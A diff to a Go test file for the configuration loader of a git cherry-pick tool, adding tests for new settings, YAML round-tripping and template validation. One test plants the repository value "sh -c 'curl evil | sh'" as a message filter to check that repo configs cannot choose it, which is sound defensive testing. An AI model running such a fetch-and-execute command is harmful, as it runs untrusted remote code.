@@ -2,12 +2,14 @@ package config
 
 import (
 	"path/filepath"
+	"reflect"
 	"runtime"
 	"testing"
 
 	"os"
 
 	"github.com/stretchr/testify/require"
+	"gopkg.in/yaml.v3"
 )
 
 func TestLoadMissingFileReturnsDefaults(t *testing.T) {
@@ -50,6 +52,15 @@ onDuplicate: replace
 preview: false
 autoRefresh: true
 defaultBranch: main
+previewLimit: 10
+commitDisplayFormat: "%s (%h)"
+refreshRemote: upstream
+tuiTheme: mono
+mouse: true
+preserve_dates: true
+noGpgSign: true
+revertMessageTemplate: "Revert {commits} ({range}) on {branch}"
+messageFilter: "fmt -w 72"
 messageTemplate: |
   [Custom] {source} -> {target}
 `
@@ -63,7 +74,43 @@ messageTemplate: |
 	require.False(t, cfg.Preview)
 	require.True(t, cfg.AutoRefresh)
 	require.Equal(t, "main", cfg.DefaultBranch)
+	require.Equal(t, 10, cfg.PreviewLimit)
+	require.Equal(t, "%s (%h)", cfg.CommitDisplayFormat)
+	require.Equal(t, "upstream", cfg.RefreshRemote)
+	require.Equal(t, "mono", cfg.TUITheme)
+	require.True(t, cfg.Mouse)
+	require.True(t, cfg.PreserveDates)
+	require.True(t, cfg.NoGPGSign)
 	require.Equal(t, "[Custom] {source} -> {target}\n", cfg.MessageTemplate)
+	require.Equal(t, "Revert {commits} ({range}) on {branch}", cfg.RevertMessageTemplate)
+	require.Empty(t, cfg.MessageFilter, "a repository config may not choose the message filter")
+	require.NoError(t, cfg.Validate())
+}
+
+func TestLoadTakesMessageFilterFromUserConfigOrEnv(t *testing.T) {
+	dir := t.TempDir()
+	resetUserEnv(t, dir)
+	clearConfigEnv(t)
+
+	repo := filepath.Join(dir, "repo")
+	require.NoError(t, os.MkdirAll(repo, 0o755))
+	content := "preview: false\nmessage_filter: \"sh -c 'curl evil | sh'\"\n"
+	require.NoError(t, os.WriteFile(filepath.Join(repo, ".gitcherry.yml"), []byte(content), 0o600))
+
+	t.Setenv("GITCHERRY_MESSAGE_FILTER", "tr a-z A-Z")
+	cfg, err := Load(repo)
+	require.NoError(t, err)
+	require.False(t, cfg.Preview)
+	require.Equal(t, "tr a-z A-Z", cfg.MessageFilter)
+
+	home, err := HomeConfigPath()
+	require.NoError(t, err)
+	require.NoError(t, os.MkdirAll(filepath.Dir(home), 0o755))
+	require.NoError(t, os.WriteFile(home, []byte("message_filter: \"fmt -w 72\"\n"), 0o600))
+
+	cfg, err = Load(repo)
+	require.NoError(t, err)
+	require.Equal(t, "fmt -w 72", cfg.MessageFilter)
 }
 
 func TestLoadFallsBackToEnvWhenNoFiles(t *testing.T) {
@@ -76,6 +123,14 @@ func TestLoadFallsBackToEnvWhenNoFiles(t *testing.T) {
 	t.Setenv("GITCHERRY_AUTO_REFRESH", "true")
 	t.Setenv("GITCHERRY_DEFAULT_BRANCH", "develop")
 	t.Setenv("GITCHERRY_MESSAGE_TEMPLATE", "{source}->{target}")
+	t.Setenv("GITCHERRY_PREVIEW_LIMIT", "5")
+	t.Setenv("GITCHERRY_REFRESH_REMOTE", "origin")
+	t.Setenv("GITCHERRY_TUI_THEME", "high-contrast")
+	t.Setenv("GITCHERRY_MOUSE", "true")
+	t.Setenv("GITCHERRY_PRESERVE_DATES", "true")
+	t.Setenv("GITCHERRY_NO_GPG_SIGN", "true")
+	t.Setenv("GITCHERRY_REVERT_MESSAGE_TEMPLATE", "Back out {range}")
+	t.Setenv("GITCHERRY_MESSAGE_FILTER", "tr a-z A-Z")
 
 	cfg, err := Load(dir)
 	require.NoError(t, err)
@@ -85,6 +140,14 @@ func TestLoadFallsBackToEnvWhenNoFiles(t *testing.T) {
 	require.True(t, cfg.AutoRefresh)
 	require.Equal(t, "develop", cfg.DefaultBranch)
 	require.Equal(t, "{source}->{target}", cfg.MessageTemplate)
+	require.Equal(t, 5, cfg.PreviewLimit)
+	require.Equal(t, "origin", cfg.RefreshRemote)
+	require.Equal(t, "high-contrast", cfg.TUITheme)
+	require.True(t, cfg.Mouse)
+	require.True(t, cfg.PreserveDates)
+	require.True(t, cfg.NoGPGSign)
+	require.Equal(t, "Back out {range}", cfg.RevertMessageTemplate)
+	require.Equal(t, "tr a-z A-Z", cfg.MessageFilter)
 }
 
 func resetUserEnv(t *testing.T, dir string) {
@@ -106,4 +169,77 @@ func clearConfigEnv(t *testing.T) {
 	t.Setenv("GITCHERRY_AUTO_REFRESH", "")
 	t.Setenv("GITCHERRY_DEFAULT_BRANCH", "")
 	t.Setenv("GITCHERRY_MESSAGE_TEMPLATE", "")
+	t.Setenv("GITCHERRY_PREVIEW_LIMIT", "")
+	t.Setenv("GITCHERRY_COMMIT_DISPLAY_FORMAT", "")
+	t.Setenv("GITCHERRY_REFRESH_REMOTE", "")
+	t.Setenv("GITCHERRY_TUI_THEME", "")
+	t.Setenv("GITCHERRY_MOUSE", "")
+	t.Setenv("GITCHERRY_PRESERVE_DATES", "")
+	t.Setenv("GITCHERRY_NO_GPG_SIGN", "")
+	t.Setenv("GITCHERRY_REVERT_MESSAGE_TEMPLATE", "")
+	t.Setenv("GITCHERRY_MESSAGE_FILTER", "")
+}
+
+func TestDefaultFileContentsLoadsAsDefaults(t *testing.T) {
+	dir := t.TempDir()
+	resetUserEnv(t, dir)
+	clearConfigEnv(t)
+
+	require.NoError(t, os.WriteFile(RepoConfigPath(dir), []byte(DefaultFileContents()), 0o600))
+
+	cfg, err := Load(dir)
+	require.NoError(t, err)
+	require.Equal(t, Default(), cfg)
+}
+
+func TestMarshalYAMLRoundTrips(t *testing.T) {
+	dir := t.TempDir()
+	resetUserEnv(t, dir)
+	clearConfigEnv(t)
+
+	want := &Config{
+		OnDuplicate:           "skip",
+		Preview:               false,
+		AutoRefresh:           true,
+		DefaultBranch:         "develop",
+		MessageTemplate:       "Backport {range}\n\nFrom {source} to {target}\n",
+		RevertMessageTemplate: "Back out {commits}",
+		MessageFilter:         "fmt -w 72",
+		PreviewLimit:          0,
+		CommitDisplayFormat:   "%s (%an)",
+		RefreshRemote:         "upstream",
+		TUITheme:              "mono",
+		Mouse:                 true,
+		PreserveDates:         true,
+		NoGPGSign:             true,
+	}
+	require.Equal(t, reflect.TypeOf(Config{}).NumField(), reflect.TypeOf(dumpFile{}).NumField(), "every setting is dumped")
+
+	data, err := yaml.Marshal(want)
+	require.NoError(t, err)
+	require.Contains(t, string(data), "commit_display_format: '%s (%an)'\n")
+	home, err := HomeConfigPath()
+	require.NoError(t, err)
+	require.NoError(t, os.MkdirAll(filepath.Dir(home), 0o755))
+	require.NoError(t, os.WriteFile(home, data, 0o600))
+
+	got, err := Load(dir)
+	require.NoError(t, err)
+	require.Equal(t, want, got)
+}
+
+func TestValidateRevertMessageTemplate(t *testing.T) {
+	require.NoError(t, Default().Validate())
+
+	for template, want := range map[string]string{
+		"":                       "cannot be empty",
+		"  ":                     "cannot be empty",
+		"Revert {range} on {to}": "unknown placeholder {to}",
+	} {
+		cfg := Default()
+		cfg.RevertMessageTemplate = template
+		err := cfg.Validate()
+		require.Error(t, err, template)
+		require.Contains(t, err.Error(), want)
+	}
 }